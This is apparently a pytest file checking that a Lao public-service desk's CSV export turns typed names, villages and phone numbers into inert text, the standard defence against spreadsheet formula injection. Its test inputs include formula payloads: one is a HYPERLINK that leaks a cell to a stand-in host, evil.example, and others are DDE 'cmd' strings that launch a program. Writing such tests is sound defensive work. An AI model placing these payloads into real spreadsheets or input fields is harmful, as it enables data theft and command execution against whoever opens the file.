"""Spreadsheet formula injection: what people typed reaches the export's cells as text, never as
a formula a spreadsheet program would run (OWASP's "CSV Injection")."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path
from typing import Any

import pytest

from odsc_desk.domain import numbers, payments, service_requests
from odsc_desk.queries import export
from odsc_desk.storage import ledger
from tests.conftest import Counter

DAY = date(2026, 11, 26)  # the fixture clock's day

# What a hostile or careless hand may type as a name or a village, one per formula character.
TYPED = [
    pytest.param('=HYPERLINK("http://evil.example/?d="&A1,"Click")', id="equals"),
    pytest.param("+cmd|' /C calc'!A0", id="plus"),
    pytest.param("-2+3+cmd|' /C calc'!A0", id="minus"),
    pytest.param("@SUM(1+1)*cmd|' /C calc'!A0", id="at"),
]
LAO_NAME = "ນາງ ສົມພອນ ແກ້ວມະນີ"
LAO_VILLAGE = "ບ້ານ ໂພນສະອາດ"


def export_rows(counter: Counter, out: Path) -> dict[str, dict[str, Any]]:
    """The export read back as a spreadsheet's CSV import would: rows by tracking number.

    Read with QUOTE_NONNUMERIC, an unquoted field comes back as a float and a quoted one as
    text: so the types below are what the file itself says each cell is.
    """
    export.export_requests(counter.store, DAY, DAY, out)
    header, body = out.read_bytes().decode("utf-8-sig").split("\r\n", 1)
    assert header == ",".join(export.COLUMNS)
    reader = csv.reader(io.StringIO(body, newline=""), quoting=csv.QUOTE_NONNUMERIC)
    rows = [dict(zip(export.COLUMNS, row, strict=True)) for row in reader]
    return {str(row["tracking"]): row for row in rows}


def record(
    counter: Counter, name: str, village: str | None = None, phone: str | None = None
) -> service_requests.RequestDetail:
    return service_requests.record_request(
        counter.store,
        counter.clerk,
        service_code="MOHA-BIRTH",
        citizen_name=name,
        village=village,
        phone=phone,
    )


@pytest.mark.parametrize("typed", TYPED)
def test_a_formula_typed_as_a_name_or_village_is_exported_as_text(
    open_counter: Counter, tmp_path: Path, typed: str
) -> None:
    made = record(open_counter, typed, village=typed)
    payments.record_payment(open_counter.store, open_counter.clerk, made["tracking"])
    row = export_rows(open_counter, tmp_path / "export.csv")[made["tracking"]]
    assert row["citizen_name"] == row["village"] == "'" + typed
    # Numbers stay numbers: unquoted in the file, so a spreadsheet can add them up.
    assert row["fee"] == row["paid"] == float(made["fee"])


def test_lao_names_and_plain_text_are_unchanged(counter: Counter, tmp_path: Path) -> None:
    lao = record(counter, LAO_NAME, village=LAO_VILLAGE)
    # A separator inside a cell cannot start a new cell: every text cell is quoted.
    mixed = record(counter, "Noy, =SUM(A1)", village="Km 6; @ market")
    rows = export_rows(counter, tmp_path / "export.csv")
    assert (rows[lao["tracking"]]["citizen_name"], rows[lao["tracking"]]["village"]) == (
        LAO_NAME,
        LAO_VILLAGE,
    )
    assert rows[mixed["tracking"]]["citizen_name"] == "Noy, =SUM(A1)"
    assert rows[mixed["tracking"]]["village"] == "Km 6; @ market"
    # The service's names come from the catalog, in Lao, and stay as they are.
    assert rows[lao["tracking"]]["service_lo"] == counter.store.scalar(
        "SELECT name_lo FROM services WHERE code = 'MOHA-BIRTH' ORDER BY version DESC LIMIT 1"
    )


def test_a_phone_number_with_a_plus_is_kept_as_text(counter: Counter, tmp_path: Path) -> None:
    # A spreadsheet would read +856… as a sum and drop the +; behind the apostrophe it is kept.
    made = record(counter, "Ket", phone="+856 20 5555 1234")
    row = export_rows(counter, tmp_path / "export.csv")[made["tracking"]]
    assert row["phone"] == "'+8562055551234"


@pytest.mark.parametrize("start", ["\t", "\r"], ids=["tab", "carriage-return"])
def test_a_tab_or_carriage_return_that_reached_the_store_is_neutralised(
    counter: Counter, tmp_path: Path, start: str
) -> None:
    """The counter's forms fold white space away, so these come only from a row written some
    other way (an older version, a hand-edited file): the export does not rely on the forms."""
    store = counter.store
    made = record(counter, "placeholder")
    row = dict(
        zip(
            [c[1] for c in store.conn.execute("PRAGMA table_info(requests)")],
            store.conn.execute("SELECT * FROM requests WHERE id = ?", (made["id"],)).fetchone(),
            strict=True,
        )
    )
    with store.transaction():
        seq, tracking = numbers.next_tracking(store, DAY)
        typed = f"{start}=1+1"
        ledger.append(
            store,
            "requests",
            {**row, "id": "raw-row", "tracking": tracking, "daily_seq": seq}
            | {"citizen_name": typed, "name_key": typed, "village": typed},
        )
    exported = export_rows(counter, tmp_path / "export.csv")[tracking]
    assert exported["citizen_name"] == exported["village"] == "'" + typed


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        pytest.param(-500, -500, id="negative-number"),
        pytest.param(0, 0, id="zero"),
        pytest.param(None, None, id="empty"),
        pytest.param("-500", "'-500", id="negative-looking-text"),
        pytest.param("", "", id="empty-text"),
        pytest.param(LAO_NAME, LAO_NAME, id="lao"),
        pytest.param(" =1+1", " =1+1", id="space-first"),
    ],
)
def test_cells(value: str | int | None, cell: str | int | None) -> None:
    assert export.cell(value) == cell
